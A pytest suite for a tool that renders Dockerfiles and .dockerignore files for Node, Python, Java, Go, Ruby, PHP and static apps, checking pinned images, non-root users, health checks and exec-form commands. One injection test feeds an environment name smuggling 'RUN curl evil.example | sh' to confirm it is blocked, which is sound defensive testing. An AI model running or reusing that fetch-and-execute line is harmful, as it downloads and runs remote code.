"""Generated Dockerfiles, parsed by the official BuildKit parser (PyPI ``dockerfile``).

Every template is checked on its instructions: FROM pinned to an explicit version tag (never
``latest``), a non-root USER before CMD, a HEALTHCHECK on the app's port and path, EXPOSE of the
port, relative COPY sources, CMD in exec form, and a build stage where there is a build step.
"""

from __future__ import annotations

import json
import re
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.domain.runtimes import (
    UnsupportedRuntimeError,
    containerize_problem,
    detect,
    render_dockerfile,
    render_dockerignore,
)
from bot.domain.runtimes import images as base_images

# The parser is a dev dependency with wheels for Linux x86_64, macOS and Windows only.
dockerfile = pytest.importorskip("dockerfile")

WORKDIR = "/opt/app"
# (files captured from the instance, start command seen there, command the image must run,
#  whether the Dockerfile must have a build stage)
APPS: dict[str, tuple[dict[str, str | None], list[str], list[str], bool]] = {
    "node": (
        {"package.json": '{"engines": {"node": "22"}}', "package-lock.json": None},
        ["/usr/bin/node", "/opt/app/server.js"],
        ["node", "/app/server.js"],
        False,
    ),
    "node-build": (
        {"package.json": '{"scripts": {"build": "tsc"}}', "package-lock.json": None},
        ["node", "dist/server.js"],
        ["node", "dist/server.js"],
        True,
    ),
    "node-pnpm": (
        {"package.json": "{}", "pnpm-lock.yaml": ""},
        ["pnpm", "start"],
        ["pnpm", "start"],
        True,
    ),
    "python-pip": (
        {"requirements.txt": "gunicorn\n", ".python-version": "3.12"},
        ["/opt/app/.venv/bin/gunicorn", "-b", "0.0.0.0:8080", "app:app"],
        ["gunicorn", "-b", "0.0.0.0:8080", "app:app"],
        True,
    ),
    "python-poetry": (
        {"pyproject.toml": "[tool.poetry]\nname = 'a'\n", "poetry.lock": ""},
        ["uvicorn", "main:app", "--port", "8080"],
        ["uvicorn", "main:app", "--port", "8080"],
        True,
    ),
    "python-uv": (
        {"pyproject.toml": "[project]\nname = 'a'\n", "uv.lock": ""},
        ["python", "-m", "app"],
        ["python", "-m", "app"],
        True,
    ),
    "java-jar": (
        {"target/orders.jar": None},
        ["/usr/bin/java", "-jar", "/opt/app/target/orders.jar"],
        ["java", "-jar", "/app/target/orders.jar"],
        False,
    ),
    "java-maven": (
        {"pom.xml": "<java.version>25</java.version>"},
        ["java", "-jar", "/opt/app/target/orders.jar"],
        ["java", "-jar", "/app/target/orders.jar"],
        True,
    ),
    "java-gradle": (
        {"build.gradle": "", "gradlew": None},
        ["java", "-jar", "build/libs/orders.jar"],
        ["java", "-jar", "build/libs/orders.jar"],
        True,
    ),
    "go": (
        {"go.mod": "module x\n\ngo 1.24\n", "go.sum": "", "cmd/api/main.go": None},
        ["/opt/app/bin/api", "-addr", ":8080"],
        ["/app/bin/api", "-addr", ":8080"],
        True,
    ),
    "ruby": (
        {"Gemfile": "ruby '3.4.2'", "Gemfile.lock": ""},
        ["/home/app/.rbenv/shims/bundle", "exec", "puma"],
        ["bundle", "exec", "puma"],
        True,
    ),
    "php-composer": (
        {"composer.json": '{"require": {"php": "8.3.*"}}', "composer.lock": "{}"},
        ["php", "artisan", "serve", "--host=0.0.0.0", "--port=8080"],
        ["php", "artisan", "serve", "--host=0.0.0.0", "--port=8080"],
        True,
    ),
    "php-plain": (
        {"index.php": ""},
        ["php", "-S", "0.0.0.0:8080"],
        ["php", "-S", "0.0.0.0:8080"],
        False,
    ),
    "static": (
        {"dist/index.html": "<html></html>"},
        ["/usr/sbin/nginx"],
        ["nginx", "-g", "daemon off;"],
        False,
    ),
}
VERSION_TAG = re.compile(r"^[a-z0-9.\-/]+:(?=[^:]*\d+\.\d+)[A-Za-z0-9._\-]+$")
ROOT_USERS = {"root", "0", "0:0", "root:root"}


def render(name: str, port: int = 8080, path: str = "/health") -> str:
    files, seen, _, _ = APPS[name]
    return render_dockerfile(
        detect(files, seen),
        port=port,
        health_path=path,
        command=seen,
        instance_workdir=WORKDIR,
        environment=["DATABASE_URL", "LOG_LEVEL"],
    )


def parse(text: str) -> list[dockerfile.Command]:
    return list(dockerfile.parse_string(text))


def final_stage(commands: Sequence[dockerfile.Command]) -> list[dockerfile.Command]:
    last_from = max(i for i, c in enumerate(commands) if c.cmd == "FROM")
    return list(commands[last_from:])


def only(commands: Sequence[dockerfile.Command], cmd: str) -> dockerfile.Command:
    found = [c for c in commands if c.cmd == cmd]
    assert len(found) == 1, f"expected one {cmd}, found {len(found)}"
    return found[0]


@pytest.mark.parametrize("name", sorted(APPS))
def test_every_base_image_is_pinned_to_an_explicit_version(name: str) -> None:
    froms = [c for c in parse(render(name)) if c.cmd == "FROM"]
    assert froms
    for instruction in froms:
        image = instruction.value[0]
        assert VERSION_TAG.match(image), image
        assert not image.endswith(":latest") and "@" not in image
        assert image.startswith("public.ecr.aws/"), image


@pytest.mark.parametrize("name", sorted(APPS))
def test_a_non_root_user_runs_the_command(name: str) -> None:
    stage = final_stage(parse(render(name)))
    cmd_at = max(i for i, c in enumerate(stage) if c.cmd == "CMD")
    users = [c.value[0] for c in stage[:cmd_at] if c.cmd == "USER"]
    assert users and users[-1] not in ROOT_USERS


@pytest.mark.parametrize("name", sorted(APPS))
def test_healthcheck_probes_the_port_and_path_with_a_tool_the_image_has(name: str) -> None:
    commands = parse(render(name, port=3000, path="/healthz"))
    check = only(final_stage(commands), "HEALTHCHECK")
    assert check.json and check.value[0] == "CMD"
    probe = list(check.value[1:])
    assert "http://127.0.0.1:3000/healthz" in probe or probe[-2:] == ["3000", "/healthz"]
    assert probe[0] in {"node", "python", "ruby", "php", "bash", "wget"}  # never curl
    assert "--interval=30s" in check.flags


@pytest.mark.parametrize("name", sorted(APPS))
def test_the_port_is_exposed_and_the_command_is_exec_form(name: str) -> None:
    _, _, expected, _ = APPS[name]
    stage = final_stage(parse(render(name, port=9090)))
    assert only(stage, "EXPOSE").value == ("9090",)
    cmd = only(stage, "CMD")
    assert cmd.json and list(cmd.value) == expected


@pytest.mark.parametrize("name", sorted(APPS))
def test_copy_sources_are_relative_except_from_a_build_stage(name: str) -> None:
    copies = [c for c in parse(render(name)) if c.cmd == "COPY"]
    assert copies
    for copy in copies:
        if any(flag.startswith("--from=") for flag in copy.flags):
            assert "--from=build" in copy.flags
            continue
        assert all(not source.startswith(("/", "..")) for source in copy.value[:-1]), copy


@pytest.mark.parametrize("name", sorted(APPS))
def test_multi_stage_exactly_where_there_is_a_build_step(name: str) -> None:
    _, _, _, has_build = APPS[name]
    froms = [c for c in parse(render(name)) if c.cmd == "FROM"]
    assert len(froms) == (2 if has_build else 1)
    if has_build:
        assert froms[0].value[1:] == ("AS", "build")


def test_environment_names_are_listed_never_values_and_cannot_inject_instructions() -> None:
    files, seen, _, _ = APPS["node"]
    text = render_dockerfile(
        detect(files, seen),
        port=8080,
        health_path="/",
        command=seen,
        instance_workdir=WORKDIR,
        environment=["API_KEY", "BAD\nRUN curl evil.example | sh"],
    )
    assert "API_KEY" in text
    assert not [c for c in parse(text) if c.cmd == "RUN" and "evil" in c.original]


def test_go_builds_the_main_package_named_like_the_binary_to_its_image_path() -> None:
    run = [c for c in parse(render("go")) if c.cmd == "RUN" and "go build" in c.original]
    assert run and run[0].original.endswith("-o /app/bin/api ./cmd/api")


def test_static_site_serves_its_root_on_the_port_with_nginx() -> None:
    text = render("static", port=8081)
    commands = parse(text)
    copy = only(commands, "COPY")
    assert copy.value == ("dist/", "/usr/share/nginx/html/")
    assert any(c.cmd == "RUN" and "8081" in c.original for c in commands)


@pytest.mark.parametrize(
    ("command", "words"),
    [
        (["pm2-runtime", "start", "ecosystem.config.js"], "pm2-runtime"),
        ([], "No start command"),
    ],
)
def test_a_command_the_image_cannot_run_is_refused_with_the_reason(
    command: list[str], words: str
) -> None:
    detection = detect({"package.json": "{}"})
    problem = containerize_problem(detection, command)
    assert problem and words in problem
    with pytest.raises(UnsupportedRuntimeError, match=words):
        render_dockerfile(
            detection, port=80, health_path="/", command=command, instance_workdir="/a"
        )


def test_php_behind_fpm_is_refused_before_approval_with_the_way_out() -> None:
    detection = detect({"composer.json": "{}"})
    problem = containerize_problem(detection, ["/usr/sbin/php-fpm8.4", "--nodaemonize"])
    assert problem and "--image" in problem


def test_an_unsupported_detection_cannot_be_rendered() -> None:
    detection = detect({"notes.txt": ""})
    with pytest.raises(UnsupportedRuntimeError, match="--image"):
        render_dockerfile(detection, port=80, health_path="/", command=["x"], instance_workdir="/a")


@pytest.mark.parametrize(("port", "path"), [(0, "/"), (70000, "/"), (80, "health")])
def test_impossible_ports_and_paths_are_refused(port: int, path: str) -> None:
    files, seen, _, _ = APPS["node"]
    with pytest.raises(UnsupportedRuntimeError):
        render_dockerfile(
            detect(files), port=port, health_path=path, command=seen, instance_workdir=WORKDIR
        )


def test_pinned_images_are_of_supported_release_lines() -> None:
    # The release lines supported on 2026-12-02 (sources in bot/domain/runtimes/images.py).
    assert set(base_images.NODE) == {"22", "24"}
    assert set(base_images.PYTHON) <= {"3.11", "3.12", "3.13", "3.14"}
    assert set(base_images.JAVA_JRE) == {"21", "25"}
    assert ":1.26." in base_images.GO_BUILD
    assert set(base_images.RUBY) <= {"3.3", "3.4"} and set(base_images.PHP) <= {"8.3", "8.4"}
    assert ":1.30." in base_images.STATIC


def test_dockerignore_keeps_the_instances_installed_dependencies_out() -> None:
    ignored = render_dockerignore(detect({"requirements.txt": ""})).splitlines()
    assert {".venv", "node_modules", ".git"} <= set(ignored)


@settings(max_examples=60, deadline=None)
@given(
    name=st.sampled_from(sorted(APPS)),
    port=st.integers(min_value=1, max_value=65535),
    path=st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=30).map(
        lambda tail: "/" + tail
    ),
)
def test_any_port_and_path_give_a_parsable_dockerfile_probing_them(
    name: str, port: int, path: str
) -> None:
    stage = final_stage(parse(render(name, port=port, path=path)))
    probe = list(only(stage, "HEALTHCHECK").value)
    assert only(stage, "EXPOSE").value == (str(port),)
    target = probe[-1] if probe[-2] != str(port) else f"http://127.0.0.1:{port}{probe[-1]}"
    assert target.startswith(f"http://127.0.0.1:{port}/")
    assert not re.search(r"\s", target)  # spaces and controls are percent-encoded


@settings(max_examples=60, deadline=None)
@given(
    args=st.lists(
        # Any character a process argument can hold (argv strings cannot contain NUL).
        st.text(
            alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
            min_size=1,
            max_size=20,
        ).filter(lambda a: not a.startswith("/") and WORKDIR not in a),  # paths are rewritten
        max_size=5,
    )
)
def test_any_arguments_survive_the_exec_form_cmd_exactly(args: list[str]) -> None:
    files, _, _, _ = APPS["node"]
    command = ["node", "my server.js", 'with "quotes"', "back\\slash", *args]
    text = render_dockerfile(
        detect(files), port=8080, health_path="/", command=command, instance_workdir=WORKDIR
    )
    cmd = only(final_stage(parse(text)), "CMD")
    assert cmd.json and list(cmd.value) == command
    assert json.loads(cmd.original.removeprefix("CMD ")) == command
